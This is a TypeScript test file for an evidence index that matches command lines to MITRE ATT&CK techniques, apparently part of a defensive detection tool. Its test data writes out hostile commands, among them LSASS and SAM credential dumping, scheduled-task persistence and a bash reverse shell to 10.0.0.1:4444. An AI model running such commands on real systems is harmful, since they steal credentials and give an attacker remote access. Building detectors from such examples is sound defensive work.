import { describe, expect, it } from 'vitest';
import { benignLabel, type EvidenceExample } from './evidence-examples.js';
import { buildEvidenceIndex } from './evidence-index.js';

const example = (text: string, technique: string, group: string): EvidenceExample => ({
  text,
  technique,
  source: technique === benignLabel ? 'sigma-filter' : 'atomic-red-team',
  group,
  label: `test ${group}`,
});

// Written from the techniques' descriptions, not from any recording.
const examples = [
  example('procdump.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\lsass_dump.dmp', 'T1003.001', 'a'),
  example('rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full', 'T1003.001', 'b'),
  example('schtasks /create /tn "Updater" /tr c:\\temp\\payload.exe /sc onlogon', 'T1053.005', 'c'),
  example('schtasks /create /s remotehost /tn task /tr cmd.exe /sc once /st 12:00', 'T1053.005', 'd'),
  example('reg save HKLM\\sam C:\\temp\\sam.save', 'T1003.002', 'e'),
  example('schtasks /query /tn "\\Microsoft\\Windows\\Defrag\\ScheduledDefrag"', benignLabel, 'f'),
  example('net user /domain', 'T1087.002', 'g'),
];

describe('evidence index', () => {
  const index = buildEvidenceIndex(examples);

  it('names the nearest known command and the words they share', () => {
    const [best] = index.candidates('C:\\tools\\procdump64.exe -ma lsass.exe C:\\Users\\Public\\out.dmp');
    expect(best?.technique).toBe('T1003.001');
    expect(best?.nearest.label).toBe('test a');
    expect(best?.sharedTerms).toContain('lsass');
    expect(best!.score).toBeGreaterThan(0.2);
  });

  it('scores a look-alike of a benign example lower than the attack it resembles', () => {
    const attack = index.candidates('schtasks.exe /create /tn evil /tr c:\\users\\public\\a.exe /sc onlogon')[0];
    const benign = index.candidates('schtasks.exe /query /tn "\\Microsoft\\Windows\\Defrag\\ScheduledDefrag"')[0];
    expect(attack?.technique).toBe('T1053.005');
    expect(benign === undefined || benign.score < attack!.score).toBe(true);
  });

  it('says nothing when only one word is shared or nothing is known', () => {
    expect(index.candidates('notepad C:\\docs\\lsass-notes.md')).toEqual([]);
    expect(index.candidates('zzzz qqqq')).toEqual([]);
  });

  it('counts unknown words against a match, so one known word among many is not close', () => {
    const close = index.candidates('reg save HKLM\\sam C:\\temp\\sam.save')[0]!;
    const diluted = index.candidates(
      'reg save HKLM\\sam alpha bravo charlie delta echo foxtrot golf hotel india juliet kilo',
    )[0]!;
    expect(diluted.score).toBeLessThan(close.score);
  });

  describe('a program run on its own', () => {
    // Written from ATT&CK's descriptions of discovery commands, not from any recording.
    const known = buildEvidenceIndex([
      example('systeminfo', 'T1082', 'h'),
      example('systeminfo | findstr /B /C:"OS Name"', 'T1082', 'i'),
      example('hostname', 'T1082', 'j'),
      example('arp -a', 'T1016', 'k'),
      example('The malware ran systeminfo to collect the OS version and patches.', 'T1082', 'l'),
      example('One test prints systeminfo output after disabling history.', 'T1070.003', 'm'),
      example('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'T1059.004', 'n'),
      example('sudo bash -c "echo ok"', 'T1548.003', 'o'),
      ...examples,
    ]);

    it('is named by what the knowledge says the program is for, when an attack command runs it on its own', () => {
      const [best, other] = known.candidates('systeminfo');
      expect(best?.technique).toBe('T1082');
      expect(best?.nearest.text).toBe('systeminfo');
      expect(best?.sharedTerms).toEqual(['systeminfo']);
      expect(other === undefined || other.score < best!.score).toBe(true);
      expect(known.candidates('arp -a')[0]?.technique).toBe('T1016');
      expect(known.candidates('hostname')[0]?.technique).toBe('T1082');
    });

    it('counts the known examples that contain the whole text, by technique', () => {
      // systeminfo is inside four examples: three of System Information Discovery, one of a test
      // that only prints it after clearing history.
      const [best] = known.candidates('systeminfo');
      expect(best?.containedIn).toEqual({
        groups: 4,
        named: 3,
        most: 'T1082',
        mostGroups: 3,
        sources: 4,
        program: true,
      });
    });

    it('says nothing for a program no attack command runs on its own, or one never named', () => {
      // A login shell is everyday; only `bash -i` to a socket and `sudo bash -c` are known.
      expect(known.candidates('bash')).toEqual([]);
      expect(known.candidates('winword.exe')).toEqual([]);
      expect(known.candidates('zzzz')).toEqual([]);
    });
  });

  describe('a building block of procedures', () => {
    // Written from how PowerShell tests are built: one System Time Discovery test is `Get-Date` on
    // its own, while tests of other techniques call it to compute a date (an expiry, a timestamp).
    const blocks = buildEvidenceIndex([
      example('Get-Date', 'T1124', 'p'),
      example('$expiry = (Get-Date).AddDays(1); New-AzADAppCredential -EndDate $expiry', 'T1098.001', 'q'),
      example('Set-ADUser -Identity svc -AccountExpirationDate (Get-Date).AddDays(30)', 'T1098', 'r'),
      example('$file.LastWriteTime = (Get-Date).AddYears(-3)', 'T1070.006', 's'),
      example('w32tm /tz', 'T1124', 't'),
      example('net time \\dc01', 'T1124', 'u'),
      ...examples,
    ]);

    it('is found inside more examples of other techniques than of the one its nearest example names', () => {
      const named = blocks.candidates('Get-Date').find((candidate) => candidate.technique === 'T1124');
      expect(named?.nearest.text).toBe('Get-Date');
      // Account Manipulation's two tests (T1098 and T1098.001 are one parent) hold most of them.
      expect(named?.containedIn).toEqual({ groups: 4, named: 1, most: 'T1098', mostGroups: 2, sources: 4 });
    });

    it('counts the tests, actors and rules containing it, each once however many techniques it tags', () => {
      // Written from how detection rules list a toolkit's functions: one rule tags session and
      // share discovery for the same value, another only session discovery.
      const rules = buildEvidenceIndex([
        example('Get-NetSession', 'T1049', 'rule-x'),
        example('Get-NetSession', 'T1135', 'rule-x'),
        example('Get-NetSession -ComputerName dc01', 'T1049', 'rule-y'),
        ...examples,
      ]);
      const session = rules.candidates('Get-NetSession').find((candidate) => candidate.technique === 'T1049');
      expect(session?.containedIn).toEqual({ groups: 3, named: 2, most: 'T1049', mostGroups: 2, sources: 2 });
    });

    it('is not a building block when the text is its own technique: an attack command with its arguments', () => {
      const [best] = blocks.candidates('w32tm /tz');
      expect(best?.technique).toBe('T1124');
      expect(best?.containedIn).toEqual({ groups: 1, named: 1, most: 'T1124', mostGroups: 1, sources: 1 });
      // A text no example contains (a word none has) carries no count.
      expect(blocks.candidates('w32tm /tz /verbose-unknown-word')[0]?.containedIn).toBeUndefined();
    });
  });
});
